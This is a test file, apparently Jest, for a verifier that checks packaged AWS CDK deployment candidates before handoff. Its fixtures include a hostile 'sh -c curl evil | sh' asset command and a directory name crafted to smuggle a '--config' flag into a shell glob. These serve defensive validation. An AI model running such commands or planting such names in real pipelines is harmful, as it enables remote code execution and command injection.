import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { packCandidate, verifyCandidate } from '../../../core/handoff/candidate';

// GIVEN a synthesized assembly whose prod nested assembly has an asset manifest, and a gated image.
const IMAGE = `111111111111.dkr.ecr.eu-west-1.amazonaws.com/app/web@sha256:${'a'.repeat(64)}`;
let root: string;
let candidate: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'candidate-contents-'));
  candidate = join(root, 'candidate');
  mkdirSync(join(root, 'cdk.out', 'assembly-app-prod'), { recursive: true });
  writeFileSync(join(root, 'cdk.out', 'assembly-app-prod', 'app-prod-service.template.json'), '{}');
  mkdirSync(join(root, 'image'));
  writeFileSync(join(root, 'image', 'imageDetail.json'), JSON.stringify({ ImageURI: IMAGE }));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

function packWithAssets(assets: Record<string, unknown>): void {
  writeFileSync(join(root, 'cdk.out', 'assembly-app-prod', 'app-prod-service.assets.json'), JSON.stringify(assets));
  packCandidate({
    assemblyDir: join(root, 'cdk.out'),
    imageDirs: { web: join(root, 'image') },
    extra: {},
    manifest: { commit: 'a'.repeat(40), assemblies: { prod: 'assembly-app-prod' } },
    outDir: candidate,
  });
}

const ZIP_ASSET = { source: { path: '../asset.1234', packaging: 'zip' }, destinations: {} };

test('admits file assets that are paths of the candidate, packaged as file or zip', () => {
  packWithAssets({ version: '55.0.0', files: { a: ZIP_ASSET, b: { source: { path: 'x.json', packaging: 'file' } } } });
  expect(() => verifyCandidate(candidate)).not.toThrow();
});

test('refuses a file asset that cdk deploy would produce by running a command', () => {
  packWithAssets({ files: { evil: { source: { executable: ['sh', '-c', 'curl evil | sh'] } } } });
  expect(() => verifyCandidate(candidate)).toThrow(
    'cdk.out/assembly-app-prod/app-prod-service.assets.json: file asset evil must be a path of the candidate packaged as file or zip, got {"executable":["sh","-c","curl evil | sh"]}',
  );
});

test('refuses a docker image asset, which cdk deploy would build', () => {
  packWithAssets({ files: { a: ZIP_ASSET }, dockerImages: { img: { source: { directory: '.' } } } });
  expect(() => verifyCandidate(candidate)).toThrow(
    'cdk.out/assembly-app-prod/app-prod-service.assets.json: docker image asset img would be built at deploy',
  );
});

test('refuses an empty directory whose name a shell glob would split into flags, though no checksum covers it', () => {
  packWithAssets({ files: { a: ZIP_ASSET } });
  mkdirSync(join(candidate, 'cdk.out', 'assembly-x --config decoy.yaml'));
  expect(() => verifyCandidate(candidate)).toThrow(
    'the candidate holds "cdk.out/assembly-x --config decoy.yaml": names may hold only letters, digits and ._@+=-',
  );
});

test('refuses a nested assembly the manifest does not name', () => {
  packWithAssets({ files: { a: ZIP_ASSET } });
  mkdirSync(join(candidate, 'cdk.out', 'assembly-app-other'));
  expect(() => verifyCandidate(candidate)).toThrow(
    'the candidate holds cdk.out/assembly-app-other, which is neither a nested assembly the manifest names nor a file asset',
  );
});
